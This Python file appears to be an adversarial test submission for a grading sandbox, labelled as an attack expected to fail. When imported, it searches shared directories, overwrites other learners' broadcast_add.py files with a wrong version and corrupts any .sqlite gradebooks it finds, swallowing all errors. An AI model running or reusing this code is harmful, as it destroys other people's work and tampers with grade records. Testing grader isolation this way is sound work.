"""Attack: sabotages other submissions. Expect: failed; at most 0 points.

In a class batch (grader batch) other learners' submissions are graded beside this one, and the gradebook
is written nearby: look for them anywhere reachable, overwrite every other broadcast_add.py found with a
wrong one, and write into every gradebook (*.sqlite) found.
"""

import os

WRONG = "def broadcast_add(a, b):\n    return a\n"
HERE = os.path.abspath(__file__)


def _sabotage():
    for top in ("/tmp", "/var/tmp", "/dev/shm", "/work", "/home", "/root", os.path.dirname(os.path.dirname(HERE)) + "/.."):
        for folder, dirs, files in os.walk(top):
            if folder.count(os.sep) > 8:
                dirs[:] = []
            for name in files:
                path = os.path.join(folder, name)
                try:
                    if name == "broadcast_add.py" and os.path.abspath(path) != HERE:
                        with open(path, "w") as f:
                            f.write(WRONG)
                    elif name.endswith((".sqlite", ".sqlite-wal")):
                        with open(path, "ab") as f:
                            f.write(b"\0garbage" * 64)
                except OSError:
                    pass


try:
    _sabotage()
except Exception:
    pass


def broadcast_add(a, b):
    return a
